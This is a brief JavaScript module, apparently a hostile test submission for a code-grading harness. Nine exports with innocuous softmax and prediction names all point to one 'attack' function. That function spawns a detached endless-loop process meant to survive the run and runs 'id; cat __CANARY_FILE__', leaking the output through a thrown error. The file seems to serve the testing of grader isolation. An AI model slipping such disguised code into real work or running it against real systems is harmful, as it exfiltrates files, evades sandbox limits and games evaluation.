// At most 0 points. Starts programs.
const { execSync, spawn } = process.getBuiltinModule('child_process');
const attack = () => {
  try {
    spawn(process.execPath, ['-e', 'for (;;);', 'zoo-survivor'], { detached: true, stdio: 'ignore' }).unref();
  } catch {}
  throw new Error(String(execSync('id; cat __CANARY_FILE__')));
};

export {
  attack as softmaxNaive, attack as softmaxStable, attack as softmaxDim, attack as logsumexp, attack as logSoftmax,
  attack as sigmoidFromSoftmax, attack as predictClass, attack as logitsFor, attack as shiftPredictions,
};
